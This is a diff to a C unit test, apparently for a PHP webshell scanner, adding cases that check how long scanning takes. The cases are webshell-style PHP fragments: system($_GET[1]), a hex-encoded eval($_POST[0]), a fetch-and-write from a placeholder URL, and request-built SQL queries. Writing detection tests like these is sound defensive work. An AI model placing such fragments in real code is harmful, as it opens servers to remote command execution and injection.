@@ -158,6 +158,15 @@ static void test_new_techniques_are_linear(void **state)
     check_cost("<?php $m = $_POST[1];", "imap_open($m);", 60000, "");
     check_cost("<?php eval(1);", "goto a; a:", 60000, "");
     check_cost("<?php eval(1);", "wp_create_user($a, $b);", 40000, "");
+    check_cost("<?php eval(1);", "stream_context_create(serialize($_POST));", 20000, "");
+    check_cost("<?php eval(1);", "$a='<?php system($_GET[1]);';", 30000, "");
+    check_cost("<?php eval(1);", "$a='6576616c28245f504f53545b305d293b';", 30000, "");
+    check_cost("<?php eval(1);", "$a='\\x7f\\105';", 60000, "");
+    check_cost("<?php ", "$_[]=$__;", 100000, "");
+    check_cost("<?php eval(1); $a='", "eJzLyy", 150000, "';");
+    check_cost("<?php eval(1); $h=fopen('a','w'); $n=file_get_contents('http://a');", "fputs($h,$n);", 40000, "");
+    check_cost("<?php eval(1); mysql_connect($_GET[1]); $q=$_GET[2].'a';", "mysql_query('a'.$q);", 30000, "");
+    check_cost("<?php eval(1);", "class A{function f($a){$a($a);}} $b->f($_GET[1]);", 10000, "");
 }
 
 /* A decoder that is called with constants more often than it is followed still shows what the visitor gives it. */
